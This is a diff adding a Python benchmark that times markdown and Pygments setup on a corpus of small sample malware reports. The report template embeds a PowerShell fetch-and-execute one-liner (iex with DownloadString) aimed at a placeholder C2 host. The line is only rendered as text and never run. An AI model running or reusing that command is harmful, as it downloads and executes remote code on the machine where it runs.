@@ -0,0 +1,84 @@
+"""Per-document setup overhead: fresh markdown pipeline vs. a reused converter.
+
+Run from the repository root:
+
+    python benchmarks/bench_markdown_setup.py [--reports 500]
+
+The corpus is small reports, where building the markdown pipeline and the
+Pygments stylesheet dominates the conversion itself.
+"""
+import argparse
+import sys
+import time
+from pathlib import Path
+
+import markdown
+from pygments.formatters import HtmlFormatter
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+from engine import MARKDOWN_EXTENSIONS, get_markdown_converter, pygments_css
+
+
+SMALL_REPORT = """## Executive Summary
+
+Sample {n} drops a **loader** that talks to `c2-{n}.example.net`.
+
+| Type | Value |
+|----|----|
+| SHA256 | {n:064x} |
+| Family | Loader |
+
+```powershell
+iex (New-Object Net.WebClient).DownloadString('http://c2-{n}.example.net/a')
+```
+
+- Persistence via Run key
+- Beacon every 60s
+"""
+
+
+def corpus(count):
+    return [SMALL_REPORT.format(n=n) for n in range(count)]
+
+
+def run_fresh(documents, style):
+    for doc in documents:
+        HtmlFormatter(style=style).get_style_defs('.codehilite')
+        markdown.markdown(doc, extensions=MARKDOWN_EXTENSIONS)
+
+
+def run_reused(documents, style):
+    for doc in documents:
+        pygments_css(style)
+        get_markdown_converter().convert(doc)
+
+
+def measure(fn, documents, style, repeat):
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        fn(documents, style)
+        best = min(best, time.perf_counter() - start)
+    return best
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--reports", type=int, default=500, help="Number of small reports (default: 500)")
+    parser.add_argument("--repeat", type=int, default=3, help="Take the best of this many runs (default: 3)")
+    parser.add_argument("--style", default="default", help="Pygments style (default: default)")
+    args = parser.parse_args()
+
+    documents = corpus(args.reports)
+    fresh = measure(run_fresh, documents, args.style, args.repeat)
+    reused = measure(run_reused, documents, args.style, args.repeat)
+
+    per_doc = lambda total: total / len(documents) * 1000
+    print(f"{len(documents)} reports, best of {args.repeat}")
+    print(f"  fresh pipeline per doc:  {per_doc(fresh):7.3f} ms")
+    print(f"  reused converter per doc: {per_doc(reused):7.3f} ms")
+    print(f"  speedup: {fresh / reused:.1f}x")
+
+
+if __name__ == "__main__":
+    main()